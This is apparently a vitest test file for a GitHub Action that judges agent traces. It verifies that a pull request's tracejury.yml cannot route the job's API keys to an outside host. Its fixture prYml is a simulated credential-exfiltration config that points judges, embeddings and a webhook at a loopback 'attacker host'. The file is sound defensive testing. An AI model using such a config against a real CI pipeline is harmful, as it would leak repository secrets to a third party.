/**
 * A pull request's tracejury.yml cannot send the job's credentials anywhere (issue 29, item 2),
 * through run() on a pull_request event with the real Octokit against the loopback GitHub (which
 * serves the base branch's tracejury.yml through the contents API) and the real OpenAI SDK against
 * loopback hosts: a legitimate judge host the base branch configured, and an "attacker host" the
 * PR adds as a judge, an embeddings endpoint and a review webhook, with `cassette.mode: record`.
 *
 * Nothing reaches the attacker host, from a fork or from a branch of the same repository; the
 * base branch's judge and webhook still work; each key narrowed is a warning naming it. Without a
 * readable base config nothing of the PR's is used and the cassette only replays.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { closeAllCassettes } from '../../src/judge/cassette.js';
import { startFakeGitHub, type FakeGitHub } from '../helpers/fakeGitHub.js';
import { BASE_SHA, pullRequestContext, runOnPullRequest } from '../helpers/pullRequestRun.js';
import { errorReply, startFakeServer, type FakeServer } from '../judge/fakeServers.js';

let gh: FakeGitHub;
let legit: FakeServer;
let attacker: FakeServer;

beforeAll(async () => {
  gh = await startFakeGitHub({ maxMs: 120_000 });
});
afterAll(() => gh.close());
beforeEach(async () => {
  gh.comments.clear();
  gh.files.clear();
  gh.forbidden.clear();
  gh.requests.length = 0;
  closeAllCassettes();
  // The base branch's judge fails (500): the case goes to review, so the review webhook has a list to send.
  legit = await startFakeServer(() => errorReply(500));
  attacker = await startFakeServer(() => errorReply(500));
});
afterEach(async () => {
  await Promise.all([legit.close(), attacker.close()]);
});

/** The step's environment: the workflow's judge key, CI's OpenAI key, and the runner's own credentials. */
const STEP_ENV = {
  JUDGE_KEY: 'judge-key-the-base-branch-chose',
  OPENAI_API_KEY: 'sk-ci-openai-key-0123456789abcdef',
  'INPUT_GITHUB-TOKEN': 'ghs_job_token_0123456789abcdef',
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789abcdef',
};

const baseYml = () => `
tribunal:
  judges:
    - { provider: openai, model: gpt-4o, baseURL: "${legit.openaiBaseURL}", apiKeyEnv: JUDGE_KEY }
  judgeTimeoutMs: 60000
  budgetMs: 60000
  cassette: { mode: auto }
review:
  webhook: { url: "${legit.url}/hook", retries: 0 }
`;

/** The PR's copy: the base branch's judge kept, and everything else pointed at the attacker. */
const prYml = () => `
tribunal:
  judges:
    - { provider: openai, model: gpt-4o, baseURL: "${legit.openaiBaseURL}", apiKeyEnv: JUDGE_KEY }
    - { provider: openai, model: gpt-4o-mini, baseURL: "${attacker.openaiBaseURL}", apiKeyEnv: OPENAI_API_KEY }
  judgeTimeoutMs: 60000
  budgetMs: 60000
  cassette: { mode: record }
embeddings: { model: text-embedding-3-small, baseURL: "${attacker.openaiBaseURL}", apiKeyEnv: OPENAI_API_KEY, maxRetries: 0 }
review:
  webhook: { url: "${attacker.url}/hook", retries: 0 }
`;

/** Three lookups of three reservations: TOOL_LOOP in the gray zone, escalated to embeddings and judges. */
function checkout(): string {
  const ws = path.join(mkdtempSync(path.join(tmpdir(), 'tracejury-prconfig-')), 'ws');
  mkdirSync(path.join(ws, 'traces'), { recursive: true });
  const trace = {
    id: 'iterating',
    output: 'done',
    steps: ['R1', 'R2', 'R3'].map((id) => ({
      type: 'tool',
      name: 'get_reservation_details',
      args: { id },
      status: 'ok',
    })),
  };
  writeFileSync(path.join(ws, 'traces/run.jsonl'), `${JSON.stringify(trace)}\n`);
  writeFileSync(path.join(ws, 'tracejury.yml'), prYml());
  return ws;
}

describe("a pull request's tracejury.yml is held to the base branch's", () => {
  it.each([
    ['a branch of this repository', undefined],
    ['a fork', 'someone/agent-fork'],
  ])(
    'from %s: nothing reaches the attacker host; the base branch’s judge and webhook still work',
    async (_from, fork) => {
      gh.files.set(`${BASE_SHA}:tracejury.yml`, baseYml());
      const out = await runOnPullRequest({
        gh,
        workspace: checkout(),
        inputs: { traces: 'traces' },
        context: pullRequestContext(fork),
        env: STEP_ENV,
      });
      expect(out.rec.failed).toEqual([]);
      expect(attacker.requests).toEqual([]);
      // The base branch's judge, with the key the base branch named, and its webhook.
      const judged = legit.requests.filter((r) => r.api === 'openai');
      expect(judged.length).toBeGreaterThan(0);
      expect(judged.every((r) => r.headers.authorization === `Bearer ${STEP_ENV.JUDGE_KEY}`)).toBe(true);
      expect(legit.requests.filter((r) => r.path === '/hook')).toHaveLength(1);
      expect(out.rec.info).toContain(
        `tracejury: endpoints, keys and the cassette mode are held to the base branch's config (tracejury.yml at ${BASE_SHA.slice(0, 7)})`,
      );
      expect(out.rec.warnings).toEqual(
        expect.arrayContaining([
          `tracejury: tracejury.yml: tribunal.judges[1] (openai gpt-4o-mini at ${attacker.openaiBaseURL} with $OPENAI_API_KEY) is not a judge of the base branch's config: dropped for this pull request (a pull request may remove a judge, not add or change one)`,
          "tracejury: tracejury.yml: tribunal.cassette.mode: record narrowed to auto, the base branch's config's (no live judge call the base branch would not make)",
          "tracejury: tracejury.yml: embeddings: differs from the base branch's config's: the offline embedder is used (a pull request may not choose an endpoint or a key)",
          "tracejury: tracejury.yml: review.webhook: differs from the base branch's config's: the base branch's webhook is used (a pull request may not choose where it goes)",
        ]),
      );
    },
  );

  it('without a base config it can read, nothing of the PR’s is used and no judge is called', async () => {
    gh.forbidden.add('contents');
    const out = await runOnPullRequest({
      gh,
      workspace: checkout(),
      inputs: { traces: 'traces' },
      env: STEP_ENV,
    });
    expect(out.rec.failed).toEqual([]);
    expect(attacker.requests).toEqual([]);
    expect(legit.requests).toEqual([]);
    expect(out.rec.warnings).toContain(
      "tracejury: cannot read the base branch's tracejury.yml (GitHub answered 403 for tracejury.yml (the job needs `contents: read`)): this pull request's judges, embeddings endpoint and review webhook are not used, and the cassette only replays",
    );
  });

  it('a base branch without tracejury.yml allows no endpoint of the PR’s', async () => {
    const out = await runOnPullRequest({
      gh,
      workspace: checkout(),
      inputs: { traces: 'traces' },
      env: STEP_ENV,
    });
    expect(attacker.requests).toEqual([]);
    expect(legit.requests).toEqual([]);
    expect(out.rec.warnings).toContain(
      "tracejury: tracejury.yml: tribunal.cassette.mode: record narrowed to replay, as the base branch's config has no tribunal (no live judge call the base branch would not make)",
    );
  });

  it('on a push the checkout is the repository’s own: its config is used as written', async () => {
    const ws = checkout();
    writeFileSync(path.join(ws, 'tracejury.yml'), baseYml());
    const push = {
      ...pullRequestContext(),
      eventName: 'push',
      payload: { repository: { default_branch: 'main' } },
      ref: 'refs/heads/main',
    };
    await runOnPullRequest({
      gh,
      workspace: ws,
      inputs: { traces: 'traces' },
      context: push as never,
      env: STEP_ENV,
    });
    expect(legit.requests.some((r) => r.api === 'openai')).toBe(true);
    expect(gh.requests.some((r) => r.url.pathname.includes('/contents/'))).toBe(false);
  });
});
